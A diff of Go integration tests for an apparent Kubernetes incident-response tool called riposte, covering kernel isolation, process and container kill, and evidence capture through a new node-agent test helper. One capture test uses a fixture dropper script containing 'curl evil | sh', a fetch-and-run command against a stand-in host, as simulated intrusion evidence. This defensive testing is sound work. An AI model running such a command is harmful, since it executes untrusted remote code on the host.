@@ -26,6 +26,7 @@ import (
 
 	"github.com/riposte-dev/riposte/api/v1alpha1"
 	"github.com/riposte-dev/riposte/evidence"
+	"github.com/riposte-dev/riposte/host"
 	"github.com/riposte-dev/riposte/responders"
 	"github.com/riposte-dev/riposte/responders/node"
 )
@@ -39,10 +40,10 @@ func podCgroup(t testing.TB, uid string) (root, containerID, dir string) {
 		t.Fatalf("this test needs root to create cgroups and load BPF programs")
 	}
 	var st syscall.Statfs_t
-	if err := syscall.Statfs(node.DefaultCgroupRoot, &st); err != nil || st.Type != 0x63677270 {
-		t.Fatalf("cgroup v2 is not mounted at %s (statfs: %v)", node.DefaultCgroupRoot, err)
+	if err := syscall.Statfs(host.DefaultCgroupRoot(), &st); err != nil || st.Type != 0x63677270 {
+		t.Fatalf("cgroup v2 is not mounted at %s (statfs: %v)", host.DefaultCgroupRoot(), err)
 	}
-	root, err := os.MkdirTemp(node.DefaultCgroupRoot, "riposte-test-")
+	root, err := os.MkdirTemp(host.DefaultCgroupRoot(), "riposte-test-")
 	if err != nil {
 		t.Fatalf("create test cgroup root: %v", err)
 	}
@@ -126,7 +127,7 @@ func TestIsolateInKernelThroughIncidentCutsLoopbackConnectionAndRevertRestoresIt
 		t.Fatalf("no echo before isolation")
 	}
 
-	local := &node.Local{CgroupRoot: root, PinDir: mountBPF(t)}
+	local := &node.Local{Cgroups: host.Cgroups{Root: root}, PinDir: mountBPF(t)}
 	run1 := runner(responders.Defaults(responders.Deps{Client: kc, Node: local}))
 	inc := incident(t, ns, subjectOf(p), playbook(t, steps(v1alpha1.Step{Action: v1alpha1.ActionIsolate})))
 	inc, _ = run(t, run1, inc)
@@ -146,7 +147,7 @@ func TestIsolateInKernelThroughIncidentCutsLoopbackConnectionAndRevertRestoresIt
 		t.Fatalf("isolation ended with the process that attached it")
 	}
 	annotate(t, inc, v1alpha1.RevertAnnotation)
-	run2 := runner(responders.Defaults(responders.Deps{Client: kc, Node: &node.Local{CgroupRoot: root, PinDir: local.PinDir}}))
+	run2 := runner(responders.Defaults(responders.Deps{Client: kc, Node: &node.Local{Cgroups: host.Cgroups{Root: root}, PinDir: local.PinDir}}))
 	inc, _ = run(t, run2, inc)
 	wantPhase(t, inc, "isolate", v1alpha1.StepReverted, "kernel programs detached")
 	if !echoes(c, r, "", 15*time.Second) {
@@ -169,7 +170,7 @@ func TestKillProcessThroughIncidentSendsSIGKILL(t *testing.T) {
 	subject := subjectOf(p)
 	subject.PID, subject.ContainerID, subject.Binary = int64(cmd.Process.Pid), "containerd://"+cid, os.Args[0]
 	inc := incident(t, ns, subject, playbook(t, steps(v1alpha1.Step{Action: v1alpha1.ActionKill, Kill: &v1alpha1.KillParams{Target: "process"}})))
-	inc, _ = run(t, runner(responders.Defaults(responders.Deps{Client: kc, Node: &node.Local{CgroupRoot: root}})), inc)
+	inc, _ = run(t, runner(responders.Defaults(responders.Deps{Client: kc, Node: &node.Local{Cgroups: host.Cgroups{Root: root}}})), inc)
 	wantPhase(t, inc, "kill", v1alpha1.StepSucceeded, "killed with SIGKILL")
 	err := cmd.Wait()
 	var ee *exec.ExitError
@@ -206,7 +207,7 @@ func BenchmarkMatchToIsolate(b *testing.B) {
 				var n responders.Node // a nil *node.Local would not be a nil Node
 				if kernel {
 					root, _, _ := podCgroup(b, string(p.UID))
-					local = &node.Local{CgroupRoot: root}
+					local = &node.Local{Cgroups: host.Cgroups{Root: root}}
 					n = local
 				}
 				r := runner(responders.Defaults(responders.Deps{Client: kc, Node: n}))
@@ -249,7 +250,7 @@ func TestCaptureOnTheNodeAddsProcessesSocketsAndExecutable(t *testing.T) {
 	cmd, port := startInCgroup(t, dir)
 	subject := subjectOf(p)
 	subject.ContainerID = "containerd://" + cid
-	local := &node.Local{CgroupRoot: root, FlightRecorder: func(uid string) [][]byte {
+	local := &node.Local{Cgroups: host.Cgroups{Root: root}, FlightRecorder: func(uid string) [][]byte {
 		if uid != string(p.UID) {
 			return nil
 		}
@@ -271,7 +272,7 @@ func TestCaptureOnTheNodeAddsProcessesSocketsAndExecutable(t *testing.T) {
 		}
 		return b
 	}
-	var procs []node.Process
+	var procs []host.Process
 	if err := json.Unmarshal(read("node/processes.json"), &procs); err != nil || len(procs) != 1 || procs[0].PID != cmd.Process.Pid {
 		t.Fatalf("processes %+v (%v), want the helper %d", procs, err, cmd.Process.Pid)
 	}
@@ -316,7 +317,7 @@ func TestKillContainerThroughIncidentKillsAllItsProcesses(t *testing.T) {
 	subject := subjectOf(p)
 	subject.ContainerID = "containerd://" + cid
 	inc := incident(t, ns, subject, playbook(t, steps(v1alpha1.Step{Action: v1alpha1.ActionKill, Kill: &v1alpha1.KillParams{Target: "container"}})))
-	inc, _ = run(t, runner(responders.Defaults(responders.Deps{Client: kc, Node: &node.Local{CgroupRoot: root}})), inc)
+	inc, _ = run(t, runner(responders.Defaults(responders.Deps{Client: kc, Node: &node.Local{Cgroups: host.Cgroups{Root: root}}})), inc)
 	wantPhase(t, inc, "kill", v1alpha1.StepSucceeded, "container app")
 	for _, cmd := range []*exec.Cmd{a, b} {
 		err := cmd.Wait()
@@ -327,7 +328,86 @@ func TestKillContainerThroughIncidentKillsAllItsProcesses(t *testing.T) {
 	}
 }
 
-func TestEnforcerAppliesDelegatedIsolationInTheKernelAndReleasesOnRevert(t *testing.T) {
+// nodeAgent does what the agent of a node does for its Incidents
+// (internal/agentmgr): the delegated steps through responders.RunDelegated
+// with the facts it knows of its pods, and kernel isolation converged to
+// what the Incidents ask for.
+type nodeAgent struct {
+	local   *node.Local
+	node    string
+	store   responders.EvidenceStore
+	podNS   map[string]string // pod uid -> namespace: what the agent's watch says
+	inPod   map[string]string // container id -> pod uid
+	actions responders.Actions
+}
+
+func newNodeAgent(local *node.Local, nodeName string, store responders.EvidenceStore) *nodeAgent {
+	deps := responders.Deps{Client: kc, Node: local}
+	if store != nil {
+		deps.Store = store
+	}
+	return &nodeAgent{local: local, node: nodeName, store: store, podNS: map[string]string{}, inPod: map[string]string{}, actions: responders.Defaults(deps)}
+}
+
+// knows records a pod (and its container) as running on the agent's node.
+func (a *nodeAgent) knows(uid, namespace, containerID string) {
+	a.podNS[uid] = namespace
+	if containerID != "" {
+		_, id, _ := strings.Cut(containerID, "://")
+		a.inPod[id] = uid
+	}
+}
+
+type syncResult struct {
+	node.Result
+	Delegated []string
+}
+
+func (a *nodeAgent) Sync(ctx context.Context) (syncResult, error) {
+	var res syncResult
+	var list v1alpha1.IncidentList
+	if err := kc.List(ctx, &list, client.MatchingLabels{v1alpha1.NodeLabel: a.node}); err != nil {
+		return res, err
+	}
+	var errs []error
+	for i := range list.Items {
+		inc := &list.Items[i]
+		done := responders.NodeResults(inc)
+		for _, st := range inc.Status.Steps {
+			key := responders.StepKey(st.Playbook, st.Name)
+			if _, ok := done[key]; ok || st.Phase != v1alpha1.StepRunning || st.Undo[responders.UndoNode] != "delegated" {
+				continue
+			}
+			var spec v1alpha1.ClusterResponsePlaybook
+			if err := kc.Get(ctx, client.ObjectKey{Name: st.Playbook}, &spec); err != nil {
+				return res, err
+			}
+			req := &responders.Request{Incident: inc, Playbook: st.Playbook, Spec: &spec.Spec, StepName: st.Name, Undo: st.Undo}
+			for _, ns := range responders.NamedSteps(spec.Spec.Steps) {
+				if ns.Name == st.Name {
+					req.Step = ns.Step
+				}
+			}
+			s := inc.Spec.Subject
+			ns, found := a.podNS[s.PodUID]
+			_, cid, _ := strings.Cut(s.ContainerID, "://")
+			facts := responders.NodeFacts{Node: a.node, PodFound: found, PodNamespace: ns, ContainerInPod: s.ContainerID != "" && a.inPod[cid] == s.PodUID}
+			r := responders.RunDelegated(ctx, a.actions, req, facts)
+			if err := node.Report(ctx, kc, inc, key, r); err != nil {
+				errs = append(errs, err)
+				continue
+			}
+			res.Delegated = append(res.Delegated, key)
+		}
+	}
+	want, reverted, werrs := node.Wanted(list.Items, a.node)
+	iso := &node.Isolation{Local: a.local, Client: kc, Node: a.node}
+	r, err := iso.Converge(ctx, want, reverted)
+	res.Result = r
+	return res, errors.Join(append(append(errs, werrs...), err)...)
+}
+
+func TestAgentAppliesDelegatedIsolationInTheKernelAndReleasesOnRevert(t *testing.T) {
 	ns := namespace(t)
 	p := barePod(t, ns)
 	root, _, dir := podCgroup(t, string(p.UID))
@@ -349,7 +429,7 @@ func TestEnforcerAppliesDelegatedIsolationInTheKernelAndReleasesOnRevert(t *test
 	wantPhase(t, inc, "isolate", v1alpha1.StepSucceeded, "kernel: delegated to the riposte agent on node")
 
 	// The agent on the pod's node converges.
-	agent := &node.Enforcer{Client: kc, Local: &node.Local{CgroupRoot: root, PinDir: mountBPF(t)}, NodeName: p.Spec.NodeName}
+	agent := newNodeAgent(&node.Local{Cgroups: host.Cgroups{Root: root}, PinDir: mountBPF(t)}, p.Spec.NodeName, nil)
 	res, err := agent.Sync(ctxT(t))
 	if err != nil {
 		t.Fatalf("sync: %v", err)
@@ -360,7 +440,7 @@ func TestEnforcerAppliesDelegatedIsolationInTheKernelAndReleasesOnRevert(t *test
 	if echoes(c, r, "during", time.Second) {
 		t.Fatalf("the connection still works after the agent's sync")
 	}
-	if a := get(t, inc).Annotations[node.KernelAnnotation]; !strings.Contains(a, "attached: cgroup_skb ingress+egress attached to") {
+	if a := get(t, inc).Annotations[v1alpha1.KernelIsolationAnnotation]; !strings.Contains(a, "attached: cgroup_skb ingress+egress attached to") {
 		t.Fatalf("incident annotation %q", a)
 	}
 	if res, err := agent.Sync(ctxT(t)); err != nil || len(res.Attached)+len(res.Released) != 0 {
@@ -376,7 +456,7 @@ func TestEnforcerAppliesDelegatedIsolationInTheKernelAndReleasesOnRevert(t *test
 	if !echoes(c, r, "", 15*time.Second) || !echoes(c, r, "after", 2*time.Second) {
 		t.Fatalf("the connection did not come back after the agent released the pod")
 	}
-	if a := get(t, inc).Annotations[node.KernelAnnotation]; !strings.Contains(a, "released") {
+	if a := get(t, inc).Annotations[v1alpha1.KernelIsolationAnnotation]; !strings.Contains(a, "released") {
 		t.Fatalf("incident annotation %q", a)
 	}
 }
@@ -384,15 +464,15 @@ func TestEnforcerAppliesDelegatedIsolationInTheKernelAndReleasesOnRevert(t *test
 // Two rules matching one pod make two Incidents that isolate it; the second
 // isolate step may come after the agent attached. Each Incident records the
 // kernel layer, and a revert records its release.
-func TestEnforcerRecordsTheKernelLayerOnEveryIncidentIsolatingThePod(t *testing.T) {
+func TestAgentRecordsTheKernelLayerOnEveryIncidentIsolatingThePod(t *testing.T) {
 	ns := namespace(t)
 	p := barePod(t, ns)
 	root, _, dir := podCgroup(t, string(p.UID))
 	ctrl := runner(responders.Defaults(responders.Deps{Client: kc}))
 	pb := playbook(t, steps(v1alpha1.Step{Action: v1alpha1.ActionIsolate}))
-	local := &node.Local{CgroupRoot: root}
+	local := &node.Local{Cgroups: host.Cgroups{Root: root}}
 	t.Cleanup(func() { _ = local.ReleasePod(context.Background(), string(p.UID)) })
-	agent := &node.Enforcer{Client: kc, Local: local, NodeName: p.Spec.NodeName}
+	agent := newNodeAgent(local, p.Spec.NodeName, nil)
 	attached := "node " + p.Spec.NodeName + " attached: cgroup_skb ingress+egress "
 
 	first, _ := run(t, ctrl, incident(t, ns, subjectOf(p), pb))
@@ -406,8 +486,8 @@ func TestEnforcerRecordsTheKernelLayerOnEveryIncidentIsolatingThePod(t *testing.
 		t.Fatalf("second sync changed %+v (%v), want nothing", res, err)
 	}
 	for _, inc := range []*v1alpha1.Incident{first, second} {
-		if a := get(t, inc).Annotations[node.KernelAnnotation]; !strings.HasPrefix(a, attached) || !strings.Contains(a, dir[:strings.LastIndex(dir, "/")]) {
-			t.Errorf("incident %s: %s %q, want %q… naming the pod's cgroup", inc.Name, node.KernelAnnotation, a, attached)
+		if a := get(t, inc).Annotations[v1alpha1.KernelIsolationAnnotation]; !strings.HasPrefix(a, attached) || !strings.Contains(a, dir[:strings.LastIndex(dir, "/")]) {
+			t.Errorf("incident %s: %s %q, want %q… naming the pod's cgroup", inc.Name, v1alpha1.KernelIsolationAnnotation, a, attached)
 		}
 	}
 
@@ -416,8 +496,8 @@ func TestEnforcerRecordsTheKernelLayerOnEveryIncidentIsolatingThePod(t *testing.
 	if res, err := agent.Sync(ctxT(t)); err != nil || len(res.Released) != 1 {
 		t.Fatalf("sync after revert released %v (%v), want the pod", res.Released, err)
 	}
-	if a := get(t, second).Annotations[node.KernelAnnotation]; !strings.HasPrefix(a, "node "+p.Spec.NodeName+" released at ") {
-		t.Errorf("reverted incident: %s %q, want released", node.KernelAnnotation, a)
+	if a := get(t, second).Annotations[v1alpha1.KernelIsolationAnnotation]; !strings.HasPrefix(a, "node "+p.Spec.NodeName+" released at ") {
+		t.Errorf("reverted incident: %s %q, want released", v1alpha1.KernelIsolationAnnotation, a)
 	}
 }
 
@@ -436,7 +516,8 @@ func TestControllerDelegatesKillAndCaptureToTheNodeAgent(t *testing.T) {
 	// The controller: no Node, an evidence folder of its own.
 	ctrl := runner(responders.Defaults(responders.Deps{Client: kc, Store: &evidence.Dir{Root: t.TempDir(), Node: "controller"}}))
 	// The agent on the pod's node, with its own evidence folder.
-	agent := &node.Enforcer{Client: kc, Local: &node.Local{CgroupRoot: root}, NodeName: p.Spec.NodeName, Store: &evidence.Dir{Root: t.TempDir(), Node: p.Spec.NodeName}}
+	agent := newNodeAgent(&node.Local{Cgroups: host.Cgroups{Root: root}}, p.Spec.NodeName, &evidence.Dir{Root: t.TempDir(), Node: p.Spec.NodeName})
+	agent.knows(string(p.UID), ns, subject.ContainerID)
 
 	got, out := run(t, ctrl, inc)
 	if out.Done {
@@ -495,7 +576,10 @@ func TestCaptureOnTheNodeListsFilesChangedInTheContainer(t *testing.T) {
 	// A container root as a snapshotter makes it: overlay of an image layer
 	// (busybox) and an upper dir that receives the container's writes.
 	base := t.TempDir()
-	lower, upper, work, merged := filepath.Join(base, "lower"), filepath.Join(base, "upper"), filepath.Join(base, "work"), filepath.Join(base, "merged")
+	// The runtime mounts it in the host's mount namespace, under its task
+	// folder named by the container id: where the agent looks it up.
+	merged := filepath.Join(base, "io.containerd.runtime.v2.task", "k8s.io", cid, "rootfs")
+	lower, upper, work := filepath.Join(base, "lower"), filepath.Join(base, "upper"), filepath.Join(base, "work")
 	for _, d := range []string{lower + "/bin", lower + "/etc", lower + "/tmp", upper, work, merged} {
 		if err := os.MkdirAll(d, 0o755); err != nil {
 			t.Fatal(err)
@@ -539,7 +623,8 @@ func TestCaptureOnTheNodeListsFilesChangedInTheContainer(t *testing.T) {
 	subject.ContainerID = "containerd://" + cid
 	store := &evidence.Dir{Root: t.TempDir()}
 	inc := incident(t, ns, subject, playbook(t, steps(v1alpha1.Step{Action: v1alpha1.ActionCapture})))
-	inc, _ = run(t, runner(responders.Defaults(responders.Deps{Client: kc, Node: &node.Local{CgroupRoot: root}, Store: store})), inc)
+	local := &node.Local{Cgroups: host.Cgroups{Root: root}, HostMountinfo: "/proc/self/mountinfo"}
+	inc, _ = run(t, runner(responders.Defaults(responders.Deps{Client: kc, Node: local, Store: store})), inc)
 	wantPhase(t, inc, "capture", v1alpha1.StepSucceeded, "manifest sha256")
 	path := inc.Status.Evidence[0].Location
 	if _, err := evidence.Verify(path, inc.Status.Evidence[0].ManifestSHA256); err != nil {
@@ -567,7 +652,7 @@ func TestCaptureOnTheNodeListsFilesChangedInTheContainer(t *testing.T) {
 	if _, ok := byPath["/bin/busybox"]; ok {
 		t.Fatalf("an unchanged image file is listed as changed")
 	}
-	copied, err := os.ReadFile(filepath.Join(path, "changed", strconv.Itoa(cmd.Process.Pid), "tmp/dropper.sh"))
+	copied, err := os.ReadFile(filepath.Join(path, "changed", cid[:12], "tmp/dropper.sh"))
 	if err != nil || string(copied) != "curl evil | sh\n" {
 		t.Fatalf("copied dropper %q %v", copied, err)
 	}
